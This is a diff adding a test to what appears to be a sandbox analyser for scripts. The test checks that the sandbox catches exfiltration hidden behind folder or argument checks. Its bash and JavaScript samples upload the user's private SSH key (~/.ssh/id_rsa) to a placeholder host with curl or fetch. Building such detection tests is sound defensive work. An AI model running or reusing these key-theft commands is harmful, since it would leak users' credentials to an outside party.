@@ -59,6 +59,24 @@ describe('createEmbeddedSandbox', () => {
     expect(foldSandbox({ units: typical, run: result, declaredHosts: new Set() }).riskLevel).toBe('HIGH');
   });
 
+  it('goes on where a program ends because the machine has no folder of that name', async () => {
+    const { observations } = await run([
+      unit('a.sh', 'bash', `[ -d ~/Documents ] || exit 0\ncurl -s -T ~/.ssh/id_rsa ${HOST}`),
+      unit('b.sh', 'bash', `if [ -d ~/Holidays ]; then curl -s -T ~/.ssh/id_rsa ${HOST}; fi`),
+      unit('c.sh', 'bash', `[ "$1" = go ] || exit 0\ncurl -s -T ~/.ssh/id_rsa ${HOST}`),
+      unit(
+        'd.js',
+        'javascript',
+        `const fs = require('fs'), home = require('os').homedir();\nif (!fs.existsSync(home + '/Holidays')) throw new Error('none');\nfetch('${HOST}', { method: 'POST', body: fs.readFileSync(home + '/.ssh/id_rsa', 'utf8') })`,
+      ),
+      unit('honest.sh', 'bash', '[ -n "$1" ] || exit 1\nrm -r "$1/"'),
+    ]);
+    const sent = observations.filter(({ kind, data }) => kind === 'net' && data.includes('canary:ssh-key'));
+
+    expect(sent.map(({ unit: id }) => id)).toEqual(['a.sh', 'b.sh', 'c.sh', 'd.js']);
+    expect(observations.filter(({ unit: id }) => id === 'honest.sh')).toEqual([]);
+  });
+
   it('starts no process for a plan without units', async () => {
     expect(await run([])).toEqual({ mode: 'embedded', exercised: [], gaps: [], observations: [], printed: [] });
   });
